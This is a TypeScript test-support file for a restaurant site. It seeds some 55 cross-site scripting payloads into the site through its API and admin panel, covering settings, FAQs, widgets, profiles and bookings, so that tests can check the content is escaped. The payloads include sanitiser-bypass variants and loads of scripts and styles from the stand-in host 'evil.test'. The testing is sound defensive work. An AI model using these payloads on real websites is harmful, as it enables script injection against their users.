import type { Faq } from '@saltmarsh/contract/messages/faq';
import { personName } from '@saltmarsh/contract/messages/fields';
import type { Widget } from '@saltmarsh/contract/messages/widget';
import { Client, done } from '../support/client';
import { multipart, pdf, pdfPart, picture, uniqueTelephone, words } from '../support/fixtures';
import { originFrom } from '../support/network';
import { Panel } from '../support/panel';
import { adminOf } from '../support/people';
import type { ServerAddress } from '../support/server';
import { everyDay, HOUSE, inDays, saveSettings } from '../support/settings';

/** Calls a function of the test, which records scripts that run. */
const RUN = 'ran(1)';
/** No page may contact this host. */
const FOREIGN = 'evil.test';

/** Texts that would run scripts if unescaped. “mark” proves that a page shows them. */
export const PAYLOADS: readonly string[] = [
  `mark<script>${RUN}</script>`,
  `mark<ScRiPt >${RUN}</sCrIpT >`,
  `mark<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `mark<script src=//${FOREIGN}/x.js></script>`,
  `mark<img src=x onerror=${RUN}>`,
  `mark<img src=x onerror="${RUN}"//`,
  `mark<img/src="x"/onerror="${RUN}">`,
  `mark<img src="//${FOREIGN}/x.png">`,
  `mark<img srcset="//${FOREIGN}/x.png 1x">`,
  `mark<picture><source srcset="//${FOREIGN}/y.png"><img></picture>`,
  `mark<svg onload=${RUN}>`,
  `mark<svg><script>${RUN}</script></svg>`,
  `mark<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `mark<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `mark<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `mark<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `mark<math href="javascript:${RUN}">x</math>`,
  `mark<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `mark<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `mark<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `mark<template><img src=x onerror=${RUN}></template>`,
  `mark<!--><img src=x onerror=${RUN}>-->`,
  `mark<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `mark<iframe src="javascript:${RUN}"></iframe>`,
  `mark<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `mark<object data="javascript:${RUN}"></object>`,
  `mark<embed src="//${FOREIGN}/x.swf">`,
  `mark<base href="//${FOREIGN}/">`,
  `mark<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`,
  `mark<link rel=stylesheet href="//${FOREIGN}/x.css">`,
  `mark<style>@import "//${FOREIGN}/x.css";</style>`,
  `mark<p style="background:url(//${FOREIGN}/x.png)">x`,
  `mark<p style="width:expression(${RUN})">x`,
  `mark<p style="color:red;}*{background:url(//${FOREIGN}/z.png)">x`,
  `mark<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `mark<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `mark<body onload=${RUN}><input autofocus onfocus=${RUN}>`,
  `mark<form action="javascript:${RUN}"><button>x</button></form>`,
  `mark<div tabindex=0 autofocus onfocus=${RUN} contenteditable>x</div>`,
  `mark" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `mark' onerror='${RUN}' src='x`,
  `mark"><img src=x onerror=${RUN}>`,
  `mark'><svg onload=${RUN}>`,
  `mark</title><script>${RUN}</script>`,
  `mark</script><script>${RUN}</script>`,
  `mark</textarea><img src=x onerror=${RUN}>`,
  `mark","x":"</script><img src=x onerror=${RUN}>`,
  `mark\\u003cimg src=x onerror=${RUN}\\u003e`,
  `mark\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `mark\`;${RUN};\``,
  `mark\u2028${RUN}\u2029`,
  `mark＜script＞${RUN}＜/script＞`,
  `mark<img src=x \u0000onerror=${RUN}>`,
  `mark%3Cscript%3E${RUN}%3C/script%3E`,
  `mark&lt;img src=x onerror=${RUN}&gt;`,
  `mark\u202e<script>${RUN}</script>`,
];

const shorterThan = (length: number) => PAYLOADS.filter((each) => each.length <= length);
/** Returns true for a valid name of a person, which contains no link. */
const isName = (text: string) => personName(255).safeParse(text).success;

const FAQ = 'api::faq.faq';
export const DINER = { email: 'diner@xss.test', password: 'oysters-in-any-month' };

const TEXTS = words`
  HomeIntro ContactIntro AboutIntro DrinkingIntro RecruitmentIntro DiningIntro OpeningHoursIntro
  VouchersIntro FaqsIntro MenusIntro FestiveIntro BookText LegalTerms LegalPrivacy LegalCookies`;
const ATTRIBUTE_BREAKERS = PAYLOADS.filter((each) => /^mark["']/.test(each)).slice(0, 5);
const IMAGES = words`HomePageImage HomeFireImage AboutImage DiningImage BookImage`;

/** Removes NUL, which the panel rejects and the API drops. */
const withoutNul = (text: string) => text.replaceAll('\0', '');

/** Separate blocks keep payloads from swallowing each other. */
const ALL_AS_HTML = PAYLOADS.map((each) => `<div>${each}</div>`).join('\n');

/** Entries for tests to open. */
export type Written = Awaited<ReturnType<typeof writePayloads>>;

/**
 * Writes every payload into rich text. Each in `listed` also gets its own entry in everything that
 * people can write, through the API and the panel.
 */
export async function writePayloads(server: ServerAddress, listed: readonly string[]) {
  const admin = await adminOf(server.url);
  const panel = await Panel.open(server.url);
  await writeSite(admin);
  const faq = await writeFaqs(admin, panel, listed);
  await writeMenus(admin, listed);
  const widget = await writeWidgets(admin, listed);
  const user = await writeUsers(admin, listed);
  await writeProfile(server);
  await writeBookings(server, listed);
  return { admin, faq, widget, user };
}

async function writeSite(admin: Client): Promise<void> {
  const short = shorterThan(100);
  const [name, tagline = ''] = short.slice(3);
  const [street, town, county] = [PAYLOADS[0], PAYLOADS[4], PAYLOADS[10]];
  const hours = everyDay(['', '12:00', '15:00']);
  const site = {
    ...{ ...HOUSE, name, tagline: `${tagline}</script><img src=x onerror=ran(1)>` },
    address: { street, town, county, postcode: '"><b>' },
    openingHours: hours.map((each, index) => ({ ...each, name: short[index] })),
    openingExceptions: PAYLOADS.map((note, index) => ({
      ...{ date: inDays(index + 9), closed: true, note: withoutNul(note) },
    })),
    socialLinks: short.map((each) => ({ name: withoutNul(each), url: 'https://social.test/' })),
  };
  done(await saveSettings(site, admin));
}

async function writeFaqs(admin: Client, panel: Panel, listed: readonly string[]): Promise<number> {
  for (const payload of listed) {
    const { id } = done(await admin.post<Faq>('/api/faqs', { question: payload }));
    done(await admin.post(`/api/faqs/${id}`, { answer: payload }));
    const text = withoutNul(payload);
    done(await panel.create(FAQ, { question: text, answer: text }));
  }
  const { id } = done(await admin.post<Faq>('/api/faqs', { question: 'mark: all' }));
  done(await admin.post(`/api/faqs/${id}`, { answer: ALL_AS_HTML }));
  return id;
}

async function writeMenus(admin: Client, listed: readonly string[]): Promise<void> {
  const groups = shorterThan(60);
  for (const [index, name] of listed.entries()) {
    const uploadFile = pdfPart(pdf(), `${name}.pdf`);
    const group = groups[index] ?? '';
    done(await admin.upload('/api/menus', multipart({ name, group, uploadFile })));
  }
}

/** Writes payloads into pages' widgets, and into the names of new widgets. */
async function writeWidgets(admin: Client, listed: readonly string[]): Promise<number> {
  const make = async (name: string, type = 'TEXT') =>
    done(await admin.post<Widget>('/api/widgets', { name, type })).id;
  // Number the names, because names that differ only in case are equal.
  for (const [index, payload] of listed.entries()) await make(`${index} ${payload}`);
  let written = 0;
  for (const name of TEXTS) {
    written = await make(name);
    const form = multipart({ name, type: 'TEXT', html: ALL_AS_HTML });
    done(await admin.upload(`/api/widgets/${written}`, form));
  }
  const image = { content: await picture('png', 300, 200), name: '"><svg onload=ran(1)>.png' };
  for (const [index, name] of IMAGES.entries()) {
    const alt = ATTRIBUTE_BREAKERS[index];
    const form = multipart({ name, type: 'IMAGE', alt, image });
    done(await admin.upload(`/api/widgets/${await make(name, 'IMAGE')}`, form));
  }
  return written;
}

async function writeUsers(admin: Client, listed: readonly string[]): Promise<number> {
  const names = shorterThan(100).filter(isName).slice(0, listed.length);
  let last = 0;
  for (const [index, firstname] of names.entries()) {
    const email = index === 0 ? DINER.email : `user-${index}@xss.test`;
    const lastname = names.at(-index) ?? firstname;
    const more = { firstname, lastname, address1: PAYLOADS[index], town: firstname };
    const password = DINER.password;
    const account = { ...more, email, password, password_confirmation: password };
    last = done(await admin.post<{ id: number }>('/api/users', account)).id;
  }
  return last;
}

async function writeProfile({ url }: ServerAddress): Promise<void> {
  const diner = new Client(url);
  done(await diner.signIn(DINER.email, DINER.password));
  const [firstname, lastname, town, address2] = shorterThan(100).filter(isName).slice(-4);
  const address1 = PAYLOADS.find((each) => each.includes('onfocus'));
  const own = { firstname, lastname, town, address1, address2, postcode: '"><b>' };
  done(await diner.post('/api/user', { ...own, email: DINER.email }));
  // Send an email that contains the name.
  done(await diner.post('/forgot-password', { email: DINER.email }));
}

async function writeBookings(server: ServerAddress, listed: readonly string[]): Promise<void> {
  const date = inDays(3);
  for (const [index, name] of listed.filter(isName).entries()) {
    const guest = new Client(await originFrom(`127.77.1.${index + 1}`, server.url));
    const email = `guest-${index}@xss.test`;
    const when = { date, time: '12:30', guests: 2, telephone: uniqueTelephone() };
    const notes = PAYLOADS.slice(index, index + 12).join('\n');
    const headers = { origin: undefined, referer: undefined };
    const json = { ...when, name, email, notes };
    done(await guest.send('POST', '/api/bookings', { json, headers }));
  }
}
